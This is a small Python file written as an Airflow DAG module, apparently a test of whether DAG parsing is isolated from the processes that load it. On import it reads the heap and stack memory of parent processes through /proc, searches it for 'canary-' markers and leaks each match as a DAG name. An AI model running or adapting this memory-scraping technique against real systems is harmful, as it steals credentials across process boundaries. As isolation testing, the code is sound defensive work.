"""Looks for secrets in the memory of the processes above it."""

import os
import re

from airflow import DAG  # noqa: F401
from talk import dag_named, letters

process = os.getpid()
for _ in range(3):
    if not os.path.exists(f"/proc/{process}/stat"):
        break
    with open(f"/proc/{process}/stat") as file:
        process = int(file.read().rsplit(")", 1)[1].split()[1])
    try:
        with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb", 0) as memory:
            for line in maps:
                if "[heap]" not in line and "[stack]" not in line:
                    continue
                begin, end = (int(part, 16) for part in line.split()[0].split("-"))
                memory.seek(begin)
                for match in set(re.findall(rb"canary-[0-9a-z-]+", memory.read(min(end - begin, 1 << 26)))):
                    globals()["dag_" + letters(match.decode())] = dag_named("remembered." + letters(match.decode()))
    except OSError:
        pass
